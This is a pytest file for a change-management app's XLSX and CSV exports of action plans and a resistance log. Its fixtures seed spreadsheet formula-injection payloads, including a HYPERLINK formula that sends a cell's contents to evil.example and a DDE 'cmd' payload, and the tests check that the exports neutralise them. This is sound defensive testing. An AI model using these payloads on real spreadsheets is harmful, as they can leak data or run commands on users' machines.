"""XLSX exports of action plans and the resistance log: the CSV's rows, typed, neutralised, same access."""

from __future__ import annotations

from datetime import timedelta

from adkar.actions import services
from adkar.timeutil import today
from tests.spreadsheet_support import assert_same_table, csv_rows, day, workbook, xlsx_rows

from .support import login, text

ACTION_HEADER = ["group", "element", "what", "owner", "starts_on", "due_on", "status", "from_library"]
RESISTANCE_HEADER = ["group", "logged_on", "what", "reason", "people", "response", "status"]


def logged(cast):
    start = today()
    services.create_action(
        group=cast.desk,
        actor=cast.owner,
        element="ability",
        what='=HYPERLINK("http://evil.example/?x="&A1,"Open")',
        owner="@SUM(1)",
        starts_on=start,
        due_on=start + timedelta(days=14),
        status="in_progress",
    )
    services.create_action(
        group=cast.field,
        actor=cast.owner,
        element="desire",
        what="Team leads hold one-to-ones",
        owner="Ana Costa",
        starts_on=start - timedelta(days=3),
        due_on=start + timedelta(days=4),
    )
    services.create_resistance(
        group=cast.desk,
        actor=cast.owner,
        what="+cmd|' /C calc'!A0",
        reason="fear_of_unknown",
        people=7,
        response="-1 more meeting",
        logged_on=start - timedelta(days=2),
    )
    return start


def test_actions_xlsx_holds_the_csv_rows_typed_and_neutralised(client, cast):
    start = logged(cast)
    login(client, cast.sponsor)
    url = f"/initiatives/{cast.initiative.id}/actions"
    response = client.get(f"{url}.xlsx")
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="{cast.initiative.id}-actions-{start.isoformat()}.xlsx"'
    )
    book = workbook(response)
    assert book.sheetnames == ["Actions", "About"]
    rows = [list(r) for r in book["Actions"].iter_rows(values_only=True)]
    # groups in id order: the desk (created first), then field engineers
    assert rows == [
        ACTION_HEADER,
        [
            "Service desk",
            "Ability",
            '\'=HYPERLINK("http://evil.example/?x="&A1,"Open")',
            "'@SUM(1)",
            day(start),
            day(start + timedelta(days=14)),
            "In progress",
            None,  # "" in the CSV: a blank cell
        ],
        [
            "Field engineers",
            "Desire",
            "Team leads hold one-to-ones",
            "Ana Costa",
            day(start - timedelta(days=3)),
            day(start + timedelta(days=4)),
            "Planned",
            None,
        ],
    ]
    assert book["Actions"]["E2"].number_format == "yyyy-mm-dd"
    assert cast.initiative.name in book["About"]["A2"].value
    assert_same_table(csv_rows(client.get(f"{url}.csv")), rows)


def test_resistance_xlsx_keeps_people_a_number(client, cast):
    start = logged(cast)
    login(client, cast.owner)
    url = f"/initiatives/{cast.initiative.id}/resistance"
    rows = xlsx_rows(client.get(f"{url}.xlsx"))
    assert rows == [
        RESISTANCE_HEADER,
        [
            "Service desk",
            day(start - timedelta(days=2)),
            "'+cmd|' /C calc'!A0",
            "Fear of the unknown",
            7,
            "'-1 more meeting",
            "Open",
        ],
    ]
    assert_same_table(csv_rows(client.get(f"{url}.csv")), rows)


def test_an_empty_plan_exports_the_header_only(client, cast):
    login(client, cast.owner)
    assert xlsx_rows(client.get(f"/initiatives/{cast.initiative.id}/actions.xlsx")) == [ACTION_HEADER]


def test_access_is_that_of_the_csv(client, cast):
    urls = [f"/initiatives/{cast.initiative.id}/{name}.xlsx" for name in ("actions", "resistance")]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 302 and "/login" in response.headers["Location"]
    login(client, cast.stranger)
    for url in [*urls, *(u.replace(".xlsx", ".csv") for u in urls)]:
        assert client.get(url).status_code == 404, url
    login(client, cast.sponsor)
    for url in urls:
        assert client.get(url).status_code == 200, url


def test_the_page_links_both_formats(client, cast):
    login(client, cast.sponsor)
    page = text(client.get(f"/initiatives/{cast.initiative.id}/actions"))
    for name in ("actions.csv", "actions.xlsx", "resistance.csv", "resistance.xlsx"):
        assert f'href="/initiatives/{cast.initiative.id}/{name}" download>' in page, name
